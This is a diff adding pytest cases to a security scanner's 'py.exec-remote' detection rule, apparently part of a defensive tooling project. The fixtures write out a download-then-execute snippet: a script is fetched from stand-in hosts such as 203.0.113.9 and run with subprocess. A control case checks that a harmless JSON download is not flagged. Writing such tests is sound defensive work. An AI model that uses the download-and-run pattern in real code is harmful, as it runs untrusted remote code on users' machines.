@@ -273,6 +273,41 @@ def test_client_bound_by_with_counts_as_a_network_send(scan):
     assert of_rule(with_file, "py.env-exfiltration") == []
 
 
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [
+        ("https://updates.example.net/snip_update.py", Severity.HIGH),
+        ("http://203.0.113.9/u.py", Severity.CRITICAL),
+        ("https://sh.rustup.rs", MEDIUM),
+    ],
+)
+def test_download_written_to_a_file_then_run_follows_the_host(scan, url, expected):
+    code = (
+        "import subprocess, sys, urllib.request\n"
+        "path = '/tmp/snip_update.py'\n"
+        f"urllib.request.urlretrieve('{url}', path)\n"
+        "subprocess.Popen([sys.executable, path])\n"
+    )
+
+    findings = of_rule(scan({"scripts/snip.py": code}, "signatures"), "py.exec-remote")
+
+    assert [(f.line_number, f.severity) for f in findings] == [(4, expected)]
+
+
+def test_downloaded_data_file_handed_to_a_tool_is_not_run(scan):
+    code = (
+        "import subprocess, requests\n"
+        "r = requests.get('https://api.example.com/items', timeout=10)\n"
+        "path = 'items.json'\n"
+        "with open(path, 'wb') as fh:\n    fh.write(r.content)\n"
+        "subprocess.run(['jq', '.', path], check=True)\n"
+    )
+
+    findings = scan({"scripts/items.py": code}, "signatures")
+
+    assert of_rule(findings, "py.exec-remote") == []
+
+
 # --- Python code checks -------------------------------------------------------------
 
 
